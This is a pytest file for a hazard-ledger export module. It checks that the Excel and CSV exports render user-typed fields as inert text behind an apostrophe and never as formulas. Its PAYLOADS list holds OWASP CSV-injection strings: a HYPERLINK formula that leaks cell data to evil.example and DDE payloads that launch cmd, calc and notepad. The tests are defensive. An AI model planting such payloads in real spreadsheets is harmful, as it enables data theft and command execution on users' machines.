"""Exports are data, never code: the OWASP CSV-injection payloads in every user-typed field, read back from the
.xlsx with openpyxl (and its raw XML) and from the CSV with the csv module."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from config.org import load_org
from config.settings import PROJECT_ROOT
from domain.hazards import Grade, State
from domain.statistics import HazardRecord, LedgerRow, RecheckResult, StateRow
from reports.workbook import LEDGER_COLUMNS, TableRow, ledger_csv, ledger_workbook
from texts import plain

ORG = load_org(PROJECT_ROOT / "config" / "org.example.toml")
ZONE = ZoneInfo("Asia/Shanghai")
NOW = dt.datetime(2026, 11, 23, 2, 0, tzinfo=dt.UTC)

# OWASP's CSV Injection page, and the tab- and CR-prefixed forms it names
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "点击查看整改照片")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=cmd|' /C notepad'!'A1'",
    "\t=1+2",
    "\r=1+2",
    "-",
]
USER_COLUMNS = ("description", "place", "person", "measures", "verified_by")


def ledger_row(payload: str) -> LedgerRow:
    """A hazard whose every user-typed field, and its verifier's name, is the payload."""
    record = HazardRecord(id=1, code="YH-2026-000001", enterprise_id="e01", township_id="cgz", department_id="yjj",
                          category_id="whp", grade=Grade.GENERAL, state=State.CLOSED, reported_at=NOW,
                          description=payload, place=payload, responsible_person=payload, measures=payload)  # fmt: skip
    return LedgerRow(record, NOW, 7, NOW, RecheckResult.WAITING, 0)


def column(key: str) -> int:
    return [k for k, _ in LEDGER_COLUMNS].index(key)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_workbook_holds_every_payload_as_text_never_a_formula(payload: str) -> None:
    data = ledger_workbook([ledger_row(payload)], [TableRow(payload, "", StateRow())], StateRow(), ORG,
                           {7: payload}, ZONE, table_subtitle=payload)  # fmt: skip
    book = openpyxl.load_workbook(io.BytesIO(data))
    ledger = book[plain("export.sheet_ledger")]
    for key in USER_COLUMNS:
        cell = ledger.cell(row=2, column=column(key) + 1)
        assert cell.value == payload and cell.data_type == "s" and cell.quotePrefix, key  # shown as typed, text
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)  # no formula at all


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_holds_every_payload_behind_an_apostrophe(payload: str) -> None:
    data = ledger_csv([ledger_row(payload)], ORG, {7: payload}, ZONE)
    header, line = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(line) == len(header) == len(LEDGER_COLUMNS)  # a quote in the payload cannot break out of its cell
    for key in USER_COLUMNS:
        assert line[column(key)] == f"'{payload}", key
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)


def test_ordinary_text_and_numbers_are_left_as_they_are() -> None:
    text = "二号仓库灭火器过期 -3℃"
    data = ledger_csv([ledger_row(text)], ORG, {7: "王五"}, ZONE)
    _, line = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert line[column("description")] == text and line[column("verified_by")] == "王五"
    assert line[column("days_overdue")] == "0"
    book = openpyxl.load_workbook(io.BytesIO(ledger_workbook([ledger_row(text)], [], StateRow(), ORG, {}, ZONE,
                                                             table_subtitle="")))  # fmt: skip
    cell = book[plain("export.sheet_ledger")].cell(row=2, column=column("description") + 1)
    assert cell.value == text and not cell.quotePrefix
